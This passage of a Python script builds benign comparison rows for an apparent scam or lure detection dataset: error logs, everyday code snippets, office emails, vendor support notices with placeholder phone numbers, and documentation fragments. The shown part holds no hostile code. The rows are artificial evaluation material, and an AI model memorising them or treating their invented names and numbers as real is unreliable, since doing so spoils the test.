Dec  7 09:02:11 web01 kernel: [812345.223] Out of memory: Killed process 4121 (java) total-vm:8123456kB, anon-rss:6234567kB
~~~
Warning  BackOff  3m (x41 over 12m)  kubelet  Back-off restarting failed container api in pod api-7d9c6b5f-x2kq_prod
~~~
fatal: unable to access 'https://github.com/fabrikam/payments-api.git/': SSL certificate problem: unable to get local issuer certificate
~~~
10.20.8.31 - - [07/Dec/2026:09:15:02 +0100] "POST /api/v1/orders HTTP/1.1" 502 166 "-" "okhttp/4.12.0"
~~~
Exception in thread "main" java.lang.OutOfMemoryError: Java heap space
	at java.base/java.util.Arrays.copyOf(Arrays.java:3537)
	at com.tailspin.report.Exporter.write(Exporter.java:112)
~~~
The application was unable to start correctly (0xc000007b). Click OK to close the application.
~~~
Windows Update: 2026-11 Cumulative Update for Windows 11 Version 24H2 for x64-based Systems (KB5046617) - Error 0x800f0922
~~~
error[E0502]: cannot borrow `self.cache` as mutable because it is also borrowed as immutable
  --> src/store.rs:44:9
~~~
[ERROR] Failed to execute goal org.apache.maven.plugins:maven-surefire-plugin:3.2.5:test (default-test) on project orders: There are test failures.
~~~
Event ID 1000, Application Error: Faulting application name: OUTLOOK.EXE, version: 16.0.18129.20116, faulting module name: mso20win32client.dll
~~~
docker: Error response from daemon: driver failed programming external connectivity on endpoint pg: Bind for 0.0.0.0:5432 failed: port is already allocated.
~~~
TypeError: Cannot read properties of undefined (reading 'map')
    at CartList (CartList.tsx:27:18)
~~~
sshd[20331]: Failed password for invalid user admin from 198.51.100.23 port 51122 ssh2
~~~
Terraform Error: creating Storage Account "ttlogsweu01": StorageAccountAlreadyTaken: The storage account named ttlogsweu01 is already taken.
~~~
ModuleNotFoundError: No module named 'distutils'  (Python 3.12, while running: pip install pycrypto==2.6.1)
~~~
Sign-in error for lena.fischer@tailspintoys.io in Outlook (12/07/2026 08:41): AADSTS50076: Due to a configuration change made by your administrator, or because you moved to a new location, you must use multi-factor authentication to access '00000002-0000-0ff1-ce00-000000000000'. Trace ID: 6b1f0c2e-77aa-4d1e-9c41-0d2f9e8b1a00
~~~
E: Unable to locate package python3.13-venv
"""),
    )

    # Code people copy
    add(
        out,
        "code",
        UNK,
        [
            "https://docs.python.org/3/library/pathlib.html",
            "https://developer.mozilla.org/en-US/docs/Web/API/Fetch_API/Using_Fetch",
            "https://stackoverflow.com/questions/3207219/how-do-i-list-all-files-of-a-directory",
            "https://go.dev/doc/tutorial/web-service-gin",
            "https://github.com/fabrikam/payments-api/blob/main/src/retry.py",
            None,
        ],
        items(r"""
from pathlib import Path

for p in sorted(Path("reports").glob("*.csv")):
    print(p.name, p.stat().st_size)
~~~
const res = await fetch("/api/orders", {
  method: "POST",
  headers: { "Content-Type": "application/json" },
  body: JSON.stringify({ sku: "A-100", qty: 2 }),
});
if (!res.ok) throw new Error(`HTTP ${res.status}`);
~~~
def retry(fn, attempts=3, delay=0.5):
    for i in range(attempts):
        try:
            return fn()
        except TimeoutError:
            if i == attempts - 1:
                raise
            time.sleep(delay * 2 ** i)
~~~
func main() {
	r := gin.Default()
	r.GET("/albums", getAlbums)
	r.Run("localhost:8080")
}
~~~
import subprocess
out = subprocess.run(["git", "rev-parse", "--short", "HEAD"], capture_output=True, text=True, check=True).stdout.strip()
~~~
public record Order(Guid Id, string Sku, int Quantity, decimal Price)
{
    public decimal Total => Quantity * Price;
}
~~~
SELECT * FROM users WHERE id = ?;  -- never build this string by concatenation
~~~
#!/usr/bin/env bash
set -euo pipefail
for host in web01 web02 web03; do
  ssh "$host" 'sudo systemctl restart app && systemctl is-active app'
done
~~~
useEffect(() => {
  const id = setInterval(() => refetchOrders(), 30_000);
  return () => clearInterval(id);
}, [refetchOrders]);
~~~
fn parse_port(s: &str) -> Result<u16, std::num::ParseIntError> {
    s.trim().parse::<u16>()
}
~~~
$files = Get-ChildItem -Path $Source -Filter *.pdf
foreach ($f in $files) {
    Copy-Item $f.FullName -Destination (Join-Path $Target $f.Name) -Force
}
~~~
import requests

r = requests.get("https://api.github.com/repos/psf/requests", timeout=10)
r.raise_for_status()
print(r.json()["stargazers_count"])
~~~
class LRUCache:
    def __init__(self, capacity: int):
        self.capacity = capacity
        self.data: OrderedDict[str, str] = OrderedDict()
~~~
=XLOOKUP(A2, Products!A:A, Products!C:C, "not found")
~~~
=SUMIFS(Sales[Amount], Sales[Region], "Nord", Sales[Date], ">="&DATE(2026,1,1))
~~~
Sub ExportSheetsToPdf()
    Dim ws As Worksheet
    For Each ws In ThisWorkbook.Worksheets
        ws.ExportAsFixedFormat Type:=xlTypePDF, Filename:=ThisWorkbook.Path & "\" & ws.Name & ".pdf"
    Next ws
End Sub
~~~
let total = items.reduce((sum, it) => sum + it.price * it.qty, 0);
~~~
with open("data.json", encoding="utf-8") as fh:
    data = json.load(fh)
~~~
@app.get("/healthz")
def healthz() -> dict[str, str]:
    return {"status": "ok"}
~~~
document.getElementById("copy").addEventListener("click", async () => {
  await navigator.clipboard.writeText(document.getElementById("snippet").textContent);
  toast("Copied!");
});
~~~
<script src="https://cdn.jsdelivr.net/npm/chart.js@4.4.7/dist/chart.umd.min.js"></script>
~~~
kubectl get pods -o jsonpath='{range .items[*]}{.metadata.name}{"\t"}{.status.phase}{"\n"}{end}'
~~~
CREATE OR REPLACE FUNCTION touch_updated_at() RETURNS trigger AS $$
BEGIN NEW.updated_at = now(); RETURN NEW; END; $$ LANGUAGE plpgsql;
~~~
if __name__ == "__main__":
    main(sys.argv[1:])
"""),
    )

    # Office and everyday texts
    add(
        out,
        "office",
        UNK,
        [
            "https://outlook.office.com/mail/inbox",
            "https://docs.google.com/document/d/1Xy2Zw3Vu4Ts5Rq6Po7Nm8Lk9Jh0/edit",
            "https://contoso.sharepoint.com/sites/HR/SitePages/Home.aspx",
            None,
        ],
        items(r"""
Hi all, please find attached the minutes from today's steering committee. Action items are highlighted in yellow; owners, please confirm your due dates by Friday.
~~~
Kind regards,
Lena Fischer
Senior Engineer, Platform Team
Tailspin Toys AS | Storgata 12, 0155 Oslo
~~~
Agenda – Q1 planning
1. Review of Q4 results (15 min)
2. Budget 2027 (20 min)
3. Hiring plan (15 min)
4. AOB
~~~
Thank you for your order #100482. Your package will be delivered between 10:00 and 14:00 on Tuesday.
~~~
Out of office: I am on leave until 6 January with limited access to e-mail. For urgent matters, please contact finance@tailspintoys.io.
~~~
Project Falcon status: green. Integration tests passed, UAT starts Monday 12 January, go-live planned for 2 February.
~~~
Invoice INV-2026-0912 is now overdue by 14 days. Please arrange payment of NOK 48 750,00 to account 1503.12.34567, ref. 100912.
~~~
Meeting room Everest is booked for the workshop 09:00–12:00. Coffee and fruit will be served at 10:30.
~~~
Please remember to submit your expense reports for November by 10 December; receipts must be attached as PDF.
~~~
Dear Mr. Haugen, we are pleased to offer you the position of Data Analyst starting 1 March 2027. Please sign and return the attached contract within seven days.
~~~
Team offsite 2027: Lillehammer, 3–4 February. Bus leaves from the office at 08:00. Bring warm clothes!
~~~
Password policy reminder: passwords must be at least 14 characters. IT will never ask for your password by e-mail or phone.
~~~
Q3 revenue came in at NOK 41.2 M (+8 % YoY); EBITDA margin 14.1 %. Details in the attached board pack, slides 4–9.
~~~
Liebe Kolleginnen und Kollegen, die Weihnachtsfeier findet am 18. Dezember ab 18 Uhr im Restaurant Lindenhof statt. Bitte meldet euch bis Freitag an.
~~~
Bonjour à tous, la réunion d'équipe est déplacée à jeudi 14h en salle Rhône. Merci de mettre à jour vos calendriers.
~~~
Estimados clientes: nuestras oficinas permanecerán cerradas del 24 al 26 de diciembre. Les deseamos felices fiestas.
~~~
Checklist before go-live:
- [x] DNS TTL lowered to 300
- [x] Backups verified
- [ ] Rollback plan signed off
- [ ] Customer comms sent
~~~
Reminder: the parking garage access cards will be replaced next week. Collect your new card at reception with ID.
~~~
Hi Jonas, could you forward me the supplier's bank details confirmation? Finance needs it before they release the payment.
~~~
Shopping list: milk, oat flakes, coffee, 6 eggs, tomatoes, dish soap
~~~
Ticket #48213 — Printer "OSL-3F-MFP" shows "Paper jam in tray 2" though the tray is empty. Already restarted it twice.
~~~
Flight SK 4035 Oslo–Bergen, 14 January, departs 07:10 from gate B7. Booking reference K9XQ2P.
~~~
Onboarding for new hires on Monday: laptop handover at 09:00, security training at 10:00, lunch with the team at 11:30.
~~~
The annual software licence renewal for Adobe Creative Cloud (12 seats) is due on 31 January. Please confirm the seat count.
~~~
Congratulations to the support team for a customer satisfaction score of 4.7 this quarter! 🎉
~~~
We're moving to the new ticket portal on 5 January. Bookmark https://servicedesk.adventure-works.com and log in with your usual company account.
~~~
Minutes: decided to postpone the CRM migration to Q2; Ingrid to prepare the cost estimate; next meeting 16 December.
~~~
Vennlig hilsen
Ola Nordmann
Regnskap | Fabrikam Norge AS
~~~
Your Microsoft 365 subscription renews automatically on 01/02/2027. You can manage your subscription at https://admin.microsoft.com.
~~~
Training: "Excel for analysts" on Wednesday 10:00–12:00 in room Fløyen; sign up on the HR portal.
"""),
    )

    # Vendor support pages with phone numbers (the real thing, close to scam texts)
    add(
        out,
        "vendor-support",
        UNK,
        [
            "https://support.microsoft.com/en-us/contactus",
            "https://support.hp.com/us-en/contact",
            "https://www.dell.com/support/contents/en-us/article/contact-information",
            "https://support.apple.com/en-us/118223",
            "https://www.lenovo.com/us/en/contact/",
            "https://www.norton.com/contact-us",
        ],
        items(r"""
Microsoft will never proactively call you to provide technical support. Any communication with Microsoft has to be initiated by you. If you want to talk to us, use Get Help in Windows or call the number listed for your country on this page, for example 1-555-010-4477 in the United States.
~~~
HP Customer Support – Contact us. Printers: Monday–Friday 8:00–20:00, phone +44 20 5550 3410. Have your product serial number ready. HP does not display phone numbers in pop-up windows on your computer.
~~~
Dell Technical Support for consumers: 1-555-012-8841 (24x7). Dell will never ask you to download remote access software from an unsolicited call or pop-up.
~~~
If you get an unexpected call or pop-up that claims to be from Apple, don't call the number shown. To contact Apple Support, go to getsupport.apple.com or call 1-555-017-7755.
~~~
Lenovo Premium Care: call 1-555-019-2203, Mon–Sat, 9 AM–9 PM. Please register your device first at pcsupport.lenovo.com so the agent can see your warranty.
~~~
Norton Member Services: manage your subscription, auto-renewal and refunds in your Norton account. Phone support: 1-555-013-6620. Norton will never ask you to pay with gift cards.
~~~
Microsoft Support (Deutschland): Rufen Sie uns über die App "Hilfe anfordern" an oder wählen Sie 0800 555 0129. Microsoft zeigt niemals Telefonnummern in Fehlermeldungen an.
~~~
Assistance Microsoft France : pour toute question sur votre abonnement Microsoft 365, appelez le 09 70 55 50 12 (appel non surtaxé) du lundi au vendredi.
~~~
Apple Support Japan：製品に関するお問い合わせは 0120-555-277（平日9時〜21時）。不審なポップアップに表示された番号には電話しないでください。
~~~
Telenor kundeservice: ring 915 55 010 for hjelp med bredbånd og TV. Vi ringer aldri for å be deg installere programmer på PC-en.
"""),
    )

    # Markdown and docs fragments
    add(
        out,
        "docs",
        UNK,
        [
            "https://github.com/fabrikam/payments-api/blob/main/README.md",
            "https://docs.tailspintoys.io/platform/runbooks/oncall",
            "https://www.markdownguide.org/cheat-sheet/",
        ],
        items(r"""
## Running locally

1. Copy `.env.example` to `.env`
2. `docker compose up -d db`
3. `make migrate && make run`
~~~
> **Note**
> The API rate limit is 600 requests per minute per token. Requests above the limit return `429 Too Many Requests`.
~~~
| Service | Port | Owner |
|---------|------|-------|
| api     | 8080 | payments |
| worker  | -    | payments |
| grafana | 3000 | platform |
~~~
### On-call: disk full on a database node
Check `df -h /var/lib/postgresql`, then look for runaway WAL with `du -sh pg_wal`. If replication slots are stuck, page the DBA on-call before dropping anything.
~~~
- [Architecture overview](docs/architecture.md)
- [Contributing](CONTRIBUTING.md)
- [Security policy](SECURITY.md)
~~~
**Breaking change in 3.0:** the `--legacy` flag was removed; use `--mode=compat` instead.
"""),
    )
    return out


def lure_rows() -> list[dict[str, str]]:
    return kit.lure_rows(PREFIX, build_lures())


def benign_rows() -> list[dict[str, str]]:
    return kit.benign_rows(PREFIX, build_benign())


if __name__ == "__main__":
    kit.main(PREFIX, build_lures(), build_benign(), LURES_OUT, BENIGN_OUT)
